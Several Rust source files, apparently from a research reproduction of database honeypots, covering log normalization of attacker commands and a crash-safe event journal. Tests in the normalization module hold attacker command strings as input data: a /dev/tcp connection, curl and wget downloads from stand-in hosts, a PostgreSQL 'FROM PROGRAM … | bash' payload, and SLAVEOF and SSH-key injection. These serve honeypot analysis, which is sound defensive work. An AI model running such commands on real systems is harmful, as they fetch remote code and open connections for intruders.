        assert_eq!(reply.get_f64("ok"), Some(1.0));
        let dbs = reply.get("databases").unwrap().as_array().unwrap();
        assert_eq!(dbs.len(), 1);
        assert_eq!(dbs[0].as_doc().unwrap().get_str("name"), Some("admin"));
    }

    #[test]
    fn filter_requires_all_keys() {
        let d = doc! { "a" => 1i32, "b" => "x" };
        assert!(matches_filter(&d, &Document::new()));
        assert!(matches_filter(&d, &doc! { "a" => 1i32 }));
        assert!(matches_filter(&d, &doc! { "a" => 1i32, "b" => "x" }));
        assert!(!matches_filter(&d, &doc! { "a" => 2i32 }));
        assert!(!matches_filter(&d, &doc! { "c" => 1i32 }));
    }
}
