//! Action normalization for TF clustering (§6.1).
//!
//! The paper's clustering treats `DELETE /tmp/hash1` and `DELETE /tmp/hash2`
//! as the same action: volatile parameters — file hashes, IP addresses,
//! ports, long random tokens — are masked before term-frequency
//! vectorization so that bot-script variants land in the same cluster. This
//! module implements that masking as a small hand-rolled tokenizer (no regex
//! dependency): honeypots call [`normalize_action`] when logging commands.

/// Mask volatile tokens in a rendered command.
///
/// Replacements (mirroring the paper's listings):
/// * IPv4 literals → `<IP>` (an attached `:port` is folded into the mask)
/// * standalone port-like integers of 2+ digits → `<N>`
/// * hex strings of 8+ chars → `<HASH>`
/// * base64-ish blobs of 24+ chars → `<CODE>`
/// * `ssh-rsa <key>` material → `ssh-rsa <KEY>`
pub fn normalize_action(raw: &str) -> String {
    let mut out: Vec<String> = Vec::new();
    let mut prev_was_ssh_rsa = false;
    for token in raw.split_whitespace() {
        let masked = if prev_was_ssh_rsa {
            prev_was_ssh_rsa = false;
            "<KEY>".to_string()
        } else {
            mask_token(token)
        };
        if masked == "ssh-rsa" {
            prev_was_ssh_rsa = true;
        }
        out.push(masked);
    }
    out.join(" ")
}

/// Mask one whitespace-delimited token.
fn mask_token(token: &str) -> String {
    // Split a trailing path off URLs so the host part can be masked:
    // http://1.2.3.4:8080/ff.sh → http://<IP>/ff.sh
    if let Some(rest) = token.strip_prefix("http://") {
        return format!("http://{}", mask_host_path(rest));
    }
    if let Some(rest) = token.strip_prefix("https://") {
        return format!("https://{}", mask_host_path(rest));
    }
    if let Some(ip_end) = ipv4_prefix_len(token) {
        // fold ":port" into the mask when present
        let rest = &token[ip_end..];
        if let Some(port_rest) = rest.strip_prefix(':') {
            let digits = port_rest.chars().take_while(|c| c.is_ascii_digit()).count();
            return format!("<IP>{}", &port_rest[digits..]);
        }
        return format!("<IP>{rest}");
    }
    // path segments: mask hex-y file names and embedded addresses,
    // e.g. /tmp/8f14e45f... or /dev/tcp/1.2.3.4/8080
    if token.contains('/') {
        let masked: Vec<String> = token.split('/').map(mask_segment).collect();
        return masked.join("/");
    }
    mask_segment(token)
}

fn mask_host_path(rest: &str) -> String {
    let (host, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    let host_masked = if ipv4_prefix_len(host.split(':').next().unwrap_or(host))
        == Some(host.split(':').next().unwrap_or(host).len())
    {
        "<IP>".to_string()
    } else {
        host.to_string()
    };
    format!("{host_masked}{path}")
}

/// Mask one path segment or bare word: IPv4 first, then plain masking.
fn mask_segment(token: &str) -> String {
    if ipv4_prefix_len(token) == Some(token.len()) {
        return "<IP>".to_string();
    }
    mask_plain(token)
}

fn mask_plain(token: &str) -> String {
    if token.is_empty() {
        return String::new();
    }
    // Mask the core of tokens carrying trailing/leading punctuation, e.g.
    // `deadbeefcafe1234;` or `table(name` — SQL campaigns glue hashes to
    // syntax characters.
    const PUNCT: &[char] = &[';', ',', '(', ')', '\'', '"', '`'];
    if token.contains(PUNCT) {
        let mut out = String::with_capacity(token.len());
        let mut core = String::new();
        for c in token.chars() {
            if PUNCT.contains(&c) {
                if !core.is_empty() {
                    out.push_str(&mask_core(&core));
                    core.clear();
                }
                out.push(c);
            } else {
                core.push(c);
            }
        }
        if !core.is_empty() {
            out.push_str(&mask_core(&core));
        }
        return out;
    }
    mask_core(token)
}

fn mask_core(token: &str) -> String {
    if token.is_empty() {
        return String::new();
    }
    let len = token.len();
    let hex_chars = token.chars().filter(|c| c.is_ascii_hexdigit()).count();
    if len >= 8 && hex_chars == len {
        return "<HASH>".to_string();
    }
    if len >= 2 && token.chars().all(|c| c.is_ascii_digit()) {
        return "<N>".to_string();
    }
    let b64_chars = token
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
        .count();
    if len >= 24
        && b64_chars == len
        && token.chars().any(|c| c.is_ascii_uppercase())
        && token.chars().any(|c| c.is_ascii_lowercase())
        && token
            .chars()
            .any(|c| c.is_ascii_digit() || c == '=' || c == '+')
    {
        return "<CODE>".to_string();
    }
    token.to_string()
}

/// Length of a leading IPv4 literal in `token`, if the token starts with one.
fn ipv4_prefix_len(token: &str) -> Option<usize> {
    let bytes = token.as_bytes();
    let mut idx = 0;
    for octet in 0..4 {
        let start = idx;
        let mut value: u32 = 0;
        while idx < bytes.len() && bytes[idx].is_ascii_digit() && idx - start < 3 {
            value = value * 10 + (bytes[idx] - b'0') as u32;
            idx += 1;
        }
        if idx == start || value > 255 {
            return None;
        }
        if octet < 3 {
            if idx >= bytes.len() || bytes[idx] != b'.' {
                return None;
            }
            idx += 1;
        }
    }
    // a trailing '.' or digit means this was not a 4-octet address
    if idx < bytes.len() && (bytes[idx] == b'.' || bytes[idx].is_ascii_digit()) {
        return None;
    }
    Some(idx)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn masks_ipv4_and_ports() {
        assert_eq!(
            normalize_action("SLAVEOF 203.0.113.9 8886"),
            "SLAVEOF <IP> <N>"
        );
        assert_eq!(
            normalize_action("connect 10.1.2.3:4444 now"),
            "connect <IP> now"
        );
        assert_eq!(normalize_action("GET 1.2.3.4.5"), "GET 1.2.3.4.5"); // 5 octets: not an IP... host part
    }

    #[test]
    fn masks_hashes_in_paths() {
        assert_eq!(
            normalize_action("chmod +x /tmp/8f14e45fceea167a"),
            "chmod +x /tmp/<HASH>"
        );
        assert_eq!(
            normalize_action("DELETE /tmp/deadbeef01"),
            "DELETE /tmp/<HASH>"
        );
        // short hex survives
        assert_eq!(normalize_action("GET cafe"), "GET cafe");
    }

    #[test]
    fn p2pinfect_variants_normalize_identically() {
        // Listing 1's injected command differs only in hash / ip / port.
        let a = normalize_action(
            "exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/0123456789abcdef",
        );
        let b = normalize_action(
            "exec 6<>/dev/tcp/198.51.100.2/9090 && cat 0<&6 >/tmp/fedcba9876543210",
        );
        assert_eq!(a, b);
    }

    #[test]
    fn urls_keep_path_mask_host() {
        assert_eq!(
            normalize_action("curl -o /tmp/sss6 http://203.0.113.4:9999/sss6"),
            "curl -o /tmp/sss6 http://<IP>/sss6"
        );
        assert_eq!(
            normalize_action("wget http://evil.example/ff.sh"),
            "wget http://evil.example/ff.sh"
        );
    }

    #[test]
    fn ssh_keys_are_masked() {
        let out = normalize_action("set x ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB root@localhost");
        assert_eq!(out, "set x ssh-rsa <KEY> root@localhost");
    }

    #[test]
    fn base64_payloads_masked() {
        let out = normalize_action(
            "COPY t FROM PROGRAM echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ= | bash",
        );
        assert!(out.contains("<CODE>"), "{out}");
        assert!(out.starts_with("COPY t FROM PROGRAM echo"));
    }

    #[test]
    fn hashes_with_punctuation_are_masked() {
        assert_eq!(
            normalize_action("DROP TABLE IF EXISTS deadbeefcafe1234;"),
            "DROP TABLE IF EXISTS <HASH>;"
        );
        assert_eq!(
            normalize_action("CREATE TABLE deadbeefcafe1234(cmd_output text);"),
            "CREATE TABLE <HASH>(cmd_output text);"
        );
        assert_eq!(
            normalize_action("SELECT * FROM deadbeefcafe1234;"),
            "SELECT * FROM <HASH>;"
        );
    }

    #[test]
    fn plain_commands_pass_through() {
        for cmd in [
            "KEYS *",
            "INFO",
            "FLUSHDB",
            "CONFIG GET dir",
            "listDatabases",
        ] {
            assert_eq!(normalize_action(cmd), cmd);
        }
    }

    #[test]
    fn ipv4_prefix_detection() {
        assert_eq!(ipv4_prefix_len("1.2.3.4"), Some(7));
        assert_eq!(ipv4_prefix_len("255.255.255.255"), Some(15));
        assert_eq!(ipv4_prefix_len("256.1.1.1"), None);
        assert_eq!(ipv4_prefix_len("1.2.3"), None);
        assert_eq!(ipv4_prefix_len("a.b.c.d"), None);
        assert_eq!(ipv4_prefix_len("1.2.3.4:80"), Some(7));
    }
}
