#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-store
//!
//! Storage engines for the Decoy Databases reproduction:
//!
//! * [`events`] — the standardized, queryable event store every honeypot
//!   logs into. This is the paper's "convert all logs into SQLite databases"
//!   pipeline stage (§4.3, Figure 1), rebuilt as an embedded, indexed store.
//! * [`kv`] — a Redis-like keyspace backing the medium-interaction Redis
//!   honeypot (strings, config table, SLAVEOF state) and holding the
//!   Mockaroo-style fake login entries of the paper's "fake data" variant.
//! * [`docdb`] — a miniature MongoDB engine (databases → collections →
//!   BSON documents) that gives the high-interaction honeypot a *real*
//!   database to steal from and ransom, per §6.3.
//! * [`journal`] — a durable, segmented, append-only binary journal with
//!   crash recovery and streaming replay, so a run (and its evidence) can
//!   outlive the process that captured it.

pub mod docdb;
pub mod events;
pub mod journal;
pub mod kv;
pub mod mask;

pub use events::{
    ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId, InteractionLevel, SessionKey,
};
pub use journal::{
    recover_events, recover_full_store, JournalConfig, JournalError, JournalErrorKind,
    JournalReader, JournalTail, JournalWriter, RecoveryStats, SegmentBatch, Segments, WriterStats,
};
pub use mask::normalize_action;
