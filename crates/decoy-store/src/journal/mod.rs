//! Durable segmented event journal.
//!
//! The paper's pipeline starts at "raw logs → standardized queryable store";
//! this module is the durable half of that arrow. [`JournalWriter`] appends
//! length-prefixed, CRC-protected [`Event`] frames to size-rotated segment
//! files through a background flush thread (group commit: a batch is pushed
//! to the OS every `flush_every` records or `flush_interval_ms` of
//! [`Clock`] time, and `fsync`ed on rotation, [`JournalWriter::sync`], and
//! close). [`JournalReader`] streams the segments back without
//! materializing the dataset, and recovery is *total*: a crash mid-write
//! leaves a torn tail that is truncated, and any other corruption ends the
//! replay with a structured [`JournalError`] plus [`RecoveryStats`] instead
//! of a panic. See `DESIGN.md` §8 for the format and the recovery
//! semantics, and [`decode`] for the corruption taxonomy.
//!
//! Layout on disk: one directory per journal, segment files named
//! `segment-00000000.dcyj`, `segment-00000001.dcyj`, … in replay order.
//! Reopening a directory repairs it like a write-ahead log: the torn tail
//! of the last segment is truncated (a trailing segment whose header never
//! made it to disk is set aside as `*.corrupt`) and writing continues in a
//! fresh segment with the next sequence number.

pub mod decode;
pub mod encode;
pub mod stream;

pub use decode::{recover_events, JournalError, JournalErrorKind, RecoveryStats, Replay};
pub use stream::{JournalTail, SegmentBatch, Segments};

use crate::events::{Event, EventStore};
use decoy_net::time::{Clock, Timestamp};
use std::fs::{self, File, OpenOptions};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::sync::{mpsc, Arc};
use std::thread::JoinHandle;
use std::time::Duration;

/// File extension of live segment files.
const SEGMENT_EXT: &str = "dcyj";

/// How a journal writer batches, rotates, and syncs.
#[derive(Debug, Clone)]
pub struct JournalConfig {
    /// Directory holding the segment files (created if missing).
    pub dir: PathBuf,
    /// Rotate to a new segment once the current one reaches this many bytes.
    pub segment_bytes: u64,
    /// Group-commit: flush to the OS after this many buffered records.
    pub flush_every: usize,
    /// Group-commit: flush to the OS after this much [`Clock`] time
    /// (milliseconds) with records buffered.
    pub flush_interval_ms: u64,
    /// `fsync` segment files on rotation and close. Leave on outside tests;
    /// turning it off trades crash durability for speed.
    pub fsync: bool,
    /// Time source for the flush interval (experiments pass the simulated
    /// clock so spooling does not depend on wall time).
    pub clock: Clock,
}

impl JournalConfig {
    /// Production-shaped defaults for spooling into `dir`: 8 MiB segments,
    /// flush every 256 records or 200 ms, fsync on rotation.
    pub fn spool(dir: impl Into<PathBuf>) -> Self {
        JournalConfig {
            dir: dir.into(),
            segment_bytes: 8 * 1024 * 1024,
            flush_every: 256,
            flush_interval_ms: 200,
            fsync: true,
            clock: Clock::Wall,
        }
    }

    /// Use `clock` for the flush interval.
    pub fn with_clock(mut self, clock: Clock) -> Self {
        self.clock = clock;
        self
    }
}

/// Counters the writer thread reports at close.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WriterStats {
    /// Records appended (and durably handed to the OS by close).
    pub records: u64,
    /// Bytes of frame data written (excluding segment headers).
    pub bytes: u64,
    /// Segments the journal rotated into (0 = everything fit in the first).
    pub rotations: u64,
    /// Group-commit flushes performed.
    pub flushes: u64,
    /// Explicit syncs requested via [`JournalWriter::sync`].
    pub syncs: u64,
    /// Appends discarded after the writer hit an unrecoverable I/O error.
    pub lost: u64,
}

/// Commands the foreground sends to the writer thread.
enum Cmd {
    /// Append one event.
    Append(Event),
    /// Flush + fsync, then acknowledge.
    Sync(mpsc::Sender<io::Result<()>>),
}

/// A cheap handle that mirrors events into the journal; held by
/// [`EventStore`] so `append_locked` stays the single choke point.
#[derive(Debug, Clone)]
pub struct JournalSink {
    tx: mpsc::Sender<Cmd>,
}

impl JournalSink {
    /// Mirror one event. Never blocks on I/O (the channel is unbounded);
    /// if the writer thread is gone the event is silently not journaled —
    /// the in-memory store remains authoritative.
    pub(crate) fn send(&self, event: &Event) {
        let _ = self.tx.send(Cmd::Append(event.clone()));
    }
}

/// Durable append-only writer over a segment directory.
///
/// All I/O happens on a background thread; [`JournalWriter::append`] and
/// [`JournalSink::send`] only enqueue. Dropping the writer joins the thread
/// after a final flush + fsync; [`JournalWriter::close`] does the same but
/// surfaces the result.
#[derive(Debug)]
pub struct JournalWriter {
    tx: Option<mpsc::Sender<Cmd>>,
    thread: Option<JoinHandle<io::Result<WriterStats>>>,
    dir: PathBuf,
}

impl JournalWriter {
    /// Open (creating or repairing) the journal directory in `cfg.dir` and
    /// start the writer thread. An existing journal is continued: the torn
    /// tail of its last segment is truncated, an unreadable trailing
    /// segment is set aside as `*.corrupt`, and new records pick up the
    /// next sequence number in a fresh segment.
    pub fn open(cfg: JournalConfig) -> io::Result<JournalWriter> {
        fs::create_dir_all(&cfg.dir)?;
        let (seg_index, next_seq) = recover_writer_state(&cfg.dir)?;
        let dir = cfg.dir.clone();
        let (file, seg_bytes) = open_segment(&cfg.dir, seg_index, next_seq)?;
        let (tx, rx) = mpsc::channel();
        let mut backend = Backend {
            cfg,
            file,
            seg_index,
            seg_bytes,
            next_seq,
            pending: 0,
            last_flush: Timestamp::from_millis(0),
            stats: WriterStats::default(),
            err: None,
        };
        backend.last_flush = backend.cfg.clock.now();
        let thread = std::thread::Builder::new()
            .name("journal-writer".into())
            .spawn(move || backend.run(rx))?;
        Ok(JournalWriter {
            tx: Some(tx),
            thread: Some(thread),
            dir,
        })
    }

    /// The journal directory.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// A cloneable sink handle for [`EventStore`].
    pub(crate) fn sink(&self) -> Option<JournalSink> {
        self.tx.as_ref().map(|tx| JournalSink { tx: tx.clone() })
    }

    /// Enqueue one event.
    pub fn append(&self, event: &Event) {
        if let Some(tx) = self.tx.as_ref() {
            let _ = tx.send(Cmd::Append(event.clone()));
        }
    }

    /// Block until everything enqueued so far is written, flushed, and
    /// fsynced. Returns the writer thread's sticky error, if it hit one.
    pub fn sync(&self) -> io::Result<()> {
        let Some(tx) = self.tx.as_ref() else {
            return Err(io::Error::other("journal writer already closed"));
        };
        let (ack_tx, ack_rx) = mpsc::channel();
        tx.send(Cmd::Sync(ack_tx))
            .map_err(|_| io::Error::other("journal writer thread exited"))?;
        ack_rx
            .recv()
            .map_err(|_| io::Error::other("journal writer thread exited"))?
    }

    /// Shut down: drain the queue, flush, fsync, join the thread, and
    /// return the final counters (or the first I/O error the thread hit).
    pub fn close(mut self) -> io::Result<WriterStats> {
        drop(self.tx.take());
        match self.thread.take() {
            Some(handle) => handle
                .join()
                .map_err(|_| io::Error::other("journal writer thread panicked"))?,
            None => Err(io::Error::other("journal writer already closed")),
        }
    }
}

impl Drop for JournalWriter {
    fn drop(&mut self) {
        drop(self.tx.take());
        if let Some(handle) = self.thread.take() {
            let _ = handle.join();
        }
    }
}

/// The writer thread's state.
struct Backend {
    cfg: JournalConfig,
    file: BufWriter<File>,
    seg_index: u64,
    seg_bytes: u64,
    next_seq: u64,
    /// Records buffered since the last flush.
    pending: usize,
    /// Clock time of the last flush.
    last_flush: Timestamp,
    stats: WriterStats,
    /// Sticky error: once writing fails, later appends are counted lost.
    err: Option<io::Error>,
}

impl Backend {
    fn run(mut self, rx: mpsc::Receiver<Cmd>) -> io::Result<WriterStats> {
        loop {
            match rx.recv_timeout(Duration::from_millis(20)) {
                Ok(Cmd::Append(event)) => self.append(&event),
                Ok(Cmd::Sync(ack)) => {
                    let _ = ack.send(self.sync());
                }
                Err(mpsc::RecvTimeoutError::Timeout) => {}
                Err(mpsc::RecvTimeoutError::Disconnected) => break,
            }
            self.tick();
        }
        self.flush();
        self.fsync();
        match self.err {
            Some(e) => Err(e),
            None => Ok(self.stats),
        }
    }

    fn append(&mut self, event: &Event) {
        if self.err.is_some() {
            self.stats.lost += 1;
            return;
        }
        let mut frame = Vec::with_capacity(96);
        encode::put_record(&mut frame, self.next_seq, event);
        if let Err(e) = self.file.write_all(&frame) {
            self.fail(e);
            self.stats.lost += 1;
            return;
        }
        self.next_seq += 1;
        self.seg_bytes += frame.len() as u64;
        self.stats.records += 1;
        self.stats.bytes += frame.len() as u64;
        self.pending += 1;
        if self.seg_bytes >= self.cfg.segment_bytes {
            self.rotate();
        } else if self.pending >= self.cfg.flush_every {
            self.flush();
        }
    }

    /// Flush on the clock interval when records are buffered.
    fn tick(&mut self) {
        if self.pending > 0
            && self.cfg.clock.now().millis_since(self.last_flush) >= self.cfg.flush_interval_ms
        {
            self.flush();
        }
    }

    fn flush(&mut self) {
        if self.err.is_some() {
            return;
        }
        match self.file.flush() {
            Ok(()) => {
                if self.pending > 0 {
                    self.stats.flushes += 1;
                }
                self.pending = 0;
                self.last_flush = self.cfg.clock.now();
            }
            Err(e) => self.fail(e),
        }
    }

    fn fsync(&mut self) {
        if self.err.is_some() || !self.cfg.fsync {
            return;
        }
        if let Err(e) = self.file.get_ref().sync_all() {
            self.fail(e);
        }
    }

    fn sync(&mut self) -> io::Result<()> {
        self.flush();
        if self.err.is_none() {
            if let Err(e) = self.file.get_ref().sync_all() {
                self.fail(e);
            }
        }
        match &self.err {
            Some(e) => Err(io::Error::new(e.kind(), e.to_string())),
            None => {
                self.stats.syncs += 1;
                Ok(())
            }
        }
    }

    fn rotate(&mut self) {
        self.flush();
        self.fsync();
        if self.err.is_some() {
            return;
        }
        match open_segment(&self.cfg.dir, self.seg_index + 1, self.next_seq) {
            Ok((file, seg_bytes)) => {
                self.file = file;
                self.seg_index += 1;
                self.seg_bytes = seg_bytes;
                self.stats.rotations += 1;
            }
            Err(e) => self.fail(e),
        }
    }

    fn fail(&mut self, e: io::Error) {
        if self.err.is_none() {
            self.err = Some(e);
        }
    }
}

/// Path of segment `index` inside `dir`.
fn segment_path(dir: &Path, index: u64) -> PathBuf {
    dir.join(format!("segment-{index:08}.{SEGMENT_EXT}"))
}

/// Create segment `index` with a header starting at `first_seq`.
fn open_segment(dir: &Path, index: u64, first_seq: u64) -> io::Result<(BufWriter<File>, u64)> {
    let file = OpenOptions::new()
        .create(true)
        .write(true)
        .truncate(true)
        .open(segment_path(dir, index))?;
    let mut writer = BufWriter::new(file);
    let mut header = Vec::with_capacity(encode::HEADER_LEN);
    encode::put_header(&mut header, first_seq);
    writer.write_all(&header)?;
    Ok((writer, header.len() as u64))
}

/// Sorted indexes of the live segment files in `dir`.
fn list_segment_indices(dir: &Path) -> io::Result<Vec<u64>> {
    let mut out = Vec::new();
    for entry in fs::read_dir(dir)? {
        let name = entry?.file_name();
        let Some(name) = name.to_str() else { continue };
        let Some(index) = name
            .strip_prefix("segment-")
            .and_then(|rest| rest.strip_suffix(&format!(".{SEGMENT_EXT}")))
            .and_then(|digits| digits.parse::<u64>().ok())
        else {
            continue;
        };
        out.push(index);
    }
    out.sort_unstable();
    Ok(out)
}

/// WAL-style repair on reopen: returns `(next segment index, next seq)`.
///
/// Works backwards from the last segment: a readable segment has its torn
/// or corrupt tail truncated in place and writing continues after its last
/// valid record; a segment whose header never made it to disk is renamed to
/// `*.corrupt` (kept for forensics, ignored by readers) and the previous
/// segment is consulted instead. An empty or fully corrupt directory starts
/// over at segment 0, sequence 0.
fn recover_writer_state(dir: &Path) -> io::Result<(u64, u64)> {
    let mut indices = list_segment_indices(dir)?;
    while let Some(&last) = indices.last() {
        let path = segment_path(dir, last);
        let bytes = fs::read(&path)?;
        match decode::scan_segment(&bytes) {
            Some((first_seq, records, valid_end)) => {
                if valid_end < bytes.len() {
                    let file = OpenOptions::new().write(true).open(&path)?;
                    file.set_len(valid_end as u64)?;
                    file.sync_all()?;
                }
                return Ok((last + 1, first_seq + records));
            }
            None => {
                let mut corrupt = path.as_os_str().to_owned();
                corrupt.push(".corrupt");
                fs::rename(&path, PathBuf::from(corrupt))?;
                indices.pop();
            }
        }
    }
    Ok((0, 0))
}

/// Streaming reader over a journal directory.
#[derive(Debug, Clone)]
pub struct JournalReader {
    paths: Vec<PathBuf>,
}

impl JournalReader {
    /// Snapshot the segment list of `dir` (sorted in replay order).
    pub fn open(dir: impl AsRef<Path>) -> io::Result<JournalReader> {
        let dir = dir.as_ref();
        let paths = list_segment_indices(dir)?
            .into_iter()
            .map(|i| segment_path(dir, i))
            .collect();
        Ok(JournalReader { paths })
    }

    /// The segment files, in replay order.
    pub fn segment_paths(&self) -> &[PathBuf] {
        &self.paths
    }

    /// A streaming replay: one segment in memory at a time, events in
    /// journal order, total recovery semantics (see [`Replay`]).
    pub fn replay(&self) -> Replay<SegmentFiles> {
        Replay::new(SegmentFiles {
            paths: self.paths.clone().into_iter(),
        })
    }
}

/// Lazily loads segment files for [`JournalReader::replay`].
pub struct SegmentFiles {
    paths: std::vec::IntoIter<PathBuf>,
}

impl Iterator for SegmentFiles {
    type Item = io::Result<Vec<u8>>;

    fn next(&mut self) -> Option<Self::Item> {
        self.paths.next().map(fs::read)
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        self.paths.size_hint()
    }
}

impl ExactSizeIterator for SegmentFiles {}

/// Replay a journal directory into a fresh [`EventStore`] (indexes rebuilt
/// through the normal `append_locked` path), returning the store and what
/// recovery saw.
///
/// This materializes the whole journal in memory; it stays available for
/// forensics (per-source session reconstruction, ad-hoc store queries).
/// Report generation should use the segment-streaming fold instead
/// ([`JournalReader::segments`] / `Report::from_journal_streaming` in
/// `decoy-core`), whose peak memory is bounded by one segment.
pub fn recover_full_store(dir: impl AsRef<Path>) -> io::Result<(Arc<EventStore>, RecoveryStats)> {
    let reader = JournalReader::open(dir)?;
    let mut replay = reader.replay();
    let store = EventStore::new();
    store.log_many(replay.by_ref());
    Ok((store, replay.finish()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::{ConfigVariant, Dbms, EventKind, HoneypotId, InteractionLevel};
    use std::net::IpAddr;
    use std::sync::atomic::{AtomicU64, Ordering};

    fn temp_dir(tag: &str) -> PathBuf {
        static N: AtomicU64 = AtomicU64::new(0);
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.subsec_nanos())
            .unwrap_or(0);
        let dir = std::env::temp_dir().join(format!(
            "decoy-journal-{tag}-{}-{}-{}",
            std::process::id(),
            nanos,
            N.fetch_add(1, Ordering::Relaxed)
        ));
        fs::create_dir_all(&dir).expect("create temp dir");
        dir
    }

    fn ev(i: u64) -> Event {
        Event {
            ts: Timestamp::from_millis(i),
            honeypot: HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
                3,
            ),
            src: IpAddr::from([203, 0, 113, (i % 251) as u8]),
            session: i,
            kind: match i % 4 {
                0 => EventKind::Connect,
                1 => EventKind::LoginAttempt {
                    username: format!("user{i}"),
                    password: format!("pw{i}"),
                    success: i % 8 == 1,
                },
                2 => EventKind::Command {
                    action: "KEYS".into(),
                    raw: format!("KEYS pattern-{i}"),
                },
                _ => EventKind::Disconnect,
            },
        }
    }

    fn tiny_config(dir: &Path) -> JournalConfig {
        JournalConfig {
            dir: dir.to_path_buf(),
            segment_bytes: 256, // force rotation every few records
            flush_every: 4,
            flush_interval_ms: 1,
            fsync: false,
            clock: Clock::Wall,
        }
    }

    fn write_journal(dir: &Path, n: u64) -> WriterStats {
        let writer = JournalWriter::open(tiny_config(dir)).expect("open");
        for i in 0..n {
            writer.append(&ev(i));
        }
        writer.close().expect("close")
    }

    /// Last segment that actually holds record bytes. A rotation right at
    /// the final record leaves a trailing header-only segment; the tests
    /// that tear the tail remove it so the torn frame is in the final
    /// segment, as in a real crash.
    fn last_data_segment(dir: &Path) -> PathBuf {
        let reader = JournalReader::open(dir).expect("reader");
        let mut paths = reader.segment_paths().to_vec();
        loop {
            let p = paths.pop().expect("a data segment");
            if fs::read(&p).expect("read").len() > encode::HEADER_LEN {
                return p;
            }
            fs::remove_file(&p).expect("remove empty trailing segment");
        }
    }

    #[test]
    fn write_rotate_replay_roundtrip() {
        let dir = temp_dir("roundtrip");
        let stats = write_journal(&dir, 50);
        assert_eq!(stats.records, 50);
        assert!(stats.rotations > 0, "256-byte segments must rotate");

        let reader = JournalReader::open(&dir).expect("reader");
        assert!(reader.segment_paths().len() > 1);
        let mut replay = reader.replay();
        let events: Vec<Event> = replay.by_ref().collect();
        let recovered = replay.finish();
        assert_eq!(events, (0..50).map(ev).collect::<Vec<_>>());
        assert!(recovered.is_clean(), "{}", recovered.summary());
        assert_eq!(recovered.records_kept, 50);
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn torn_tail_is_truncated_silently() {
        let dir = temp_dir("torn");
        write_journal(&dir, 10);
        let last = last_data_segment(&dir);
        // chop the last 3 bytes: a torn final record
        let bytes = fs::read(&last).expect("read");
        assert!(bytes.len() > encode::HEADER_LEN + 3);
        fs::write(&last, &bytes[..bytes.len() - 3]).expect("write");

        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert!(recovered.error.is_none(), "torn tail is not an error");
        assert!(recovered.bytes_truncated > 0);
        assert_eq!(store.len() as u64, recovered.records_kept);
        assert_eq!(recovered.records_kept, 9, "exactly the torn record lost");
        store.read(|events| {
            assert_eq!(events, &(0..9).map(ev).collect::<Vec<_>>()[..]);
        });
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn mid_journal_corruption_reports_structured_error() {
        let dir = temp_dir("corrupt");
        write_journal(&dir, 40);
        let reader = JournalReader::open(&dir).expect("reader");
        let first = reader.segment_paths().first().expect("segments").clone();
        let mut bytes = fs::read(&first).expect("read");
        // flip one bit inside the first record body
        bytes[encode::HEADER_LEN + 2] ^= 0x40;
        fs::write(&first, &bytes).expect("write");

        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert_eq!(store.len(), 0, "corruption in record 0 yields empty prefix");
        assert!(
            recovered.records_dropped > 0,
            "later records counted: {}",
            recovered.summary()
        );
        let err = recovered.error.expect("structured error");
        assert_eq!(err.segment, 0);
        assert!(matches!(
            err.kind,
            JournalErrorKind::CrcMismatch { .. } | JournalErrorKind::BadVarint
        ));
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn reopen_continues_sequence_numbers() {
        let dir = temp_dir("reopen");
        write_journal(&dir, 7);
        {
            let writer = JournalWriter::open(tiny_config(&dir)).expect("reopen");
            for i in 7..12 {
                writer.append(&ev(i));
            }
            writer.close().expect("close");
        }
        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert!(recovered.is_clean(), "{}", recovered.summary());
        assert_eq!(store.len(), 12);
        store.read(|events| assert_eq!(events, &(0..12).map(ev).collect::<Vec<_>>()[..]));
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn reopen_repairs_torn_tail_and_appends() {
        let dir = temp_dir("repair");
        write_journal(&dir, 10);
        // simulate a crash mid-write: tear the last record
        let last = last_data_segment(&dir);
        let bytes = fs::read(&last).expect("read");
        fs::write(&last, &bytes[..bytes.len() - 2]).expect("write");

        {
            let writer = JournalWriter::open(tiny_config(&dir)).expect("reopen");
            // the torn record 9 was repaired away; re-append it and more
            for i in 9..14 {
                writer.append(&ev(i));
            }
            writer.close().expect("close");
        }
        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert!(recovered.is_clean(), "repair must leave a clean journal");
        assert_eq!(store.len(), 14);
        store.read(|events| assert_eq!(events, &(0..14).map(ev).collect::<Vec<_>>()[..]));
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn reopen_sets_aside_headerless_trailing_segment() {
        let dir = temp_dir("headerless");
        write_journal(&dir, 6);
        // a rotation that died before the header hit the disk
        let indices = list_segment_indices(&dir).expect("list");
        let next = indices.last().expect("segments") + 1;
        fs::write(segment_path(&dir, next), [0x44u8, 0x43]).expect("write stub");

        {
            let writer = JournalWriter::open(tiny_config(&dir)).expect("reopen");
            writer.append(&ev(6));
            writer.close().expect("close");
        }
        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert!(recovered.is_clean(), "{}", recovered.summary());
        assert_eq!(store.len(), 7);
        assert!(
            fs::read_dir(&dir)
                .expect("dir")
                .filter_map(|e| e.ok())
                .any(|e| e.file_name().to_string_lossy().ends_with(".corrupt")),
            "the headerless segment is kept for forensics"
        );
